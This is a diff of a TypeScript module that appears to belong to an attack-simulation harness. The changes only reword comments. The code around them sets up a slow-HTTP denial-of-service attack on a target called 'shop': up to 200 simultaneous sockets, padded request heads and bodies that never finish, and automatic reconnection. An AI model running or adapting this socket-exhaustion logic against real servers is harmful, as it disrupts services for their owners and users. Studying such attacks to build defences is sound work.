@@ -6,16 +6,16 @@ import { reasonOf, Tally } from './client.ts';
 import type { AttackPlan, AttackResult } from './plan.ts';
 
 const CONNECTING_AT_ONCE = 200;
-/** A socket that the shop has closed or refused is opened again after so long. */
+/** Pause in milliseconds before a socket that the shop has closed or refused is opened again. */
 const AGAIN_MS = 5_000;
 
 const BODY_HEAD =
   'POST /contact HTTP/1.1\r\nHost: shop\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 2000\r\n\r\n';
-/** A head that never ends, whose first byte is all that an idle socket sends, and a body that never does. */
+/** A head that never ends, of which an idle socket sends only the first byte, and a body that never ends. */
 const SLOW_HEAD = { atOnce: '', slowly: `GET / HTTP/1.1\r\nHost: shop\r\nX-Slow: ${'x'.repeat(1_900)}` };
 const SLOW_BODY = { atOnce: BODY_HEAD, slowly: 'x'.repeat(1_900) };
 
-/** Opens sockets, each again when it was closed, and holds them until the time is over. */
+/** Opens sockets, reopens closed ones, and holds them until the time is over. */
 export async function attackBySockets(attack: SocketAttack, plan: AttackPlan): Promise<AttackResult> {
   const held = new Set<Socket>();
   const answers = new Tally();
@@ -64,7 +64,7 @@ export async function attackBySockets(attack: SocketAttack, plan: AttackPlan): P
 let connecting = 0;
 const waiting: (() => void)[] = [];
 
-/** A connection from the attacker's address, a few being made at a time. */
+/** Connects from the attacker's address, a few at a time. */
 async function connected({ host, port, address }: AttackPlan): Promise<Socket> {
   if (connecting >= CONNECTING_AT_ONCE) await new Promise<void>((resolve) => waiting.push(resolve));
   connecting++;
@@ -81,7 +81,10 @@ async function connected({ host, port, address }: AttackPlan): Promise<Socket> {
   }
 }
 
-/** Sends the first byte at once and, if asked for, one more every so many ms; returns what stops it. */
+/**
+ * Sends the first byte at once and, if requested, another one at every interval; returns the function that
+ * stops it.
+ */
 function speak(
   socket: Socket,
   { atOnce, slowly }: { atOnce: string; slowly: string },
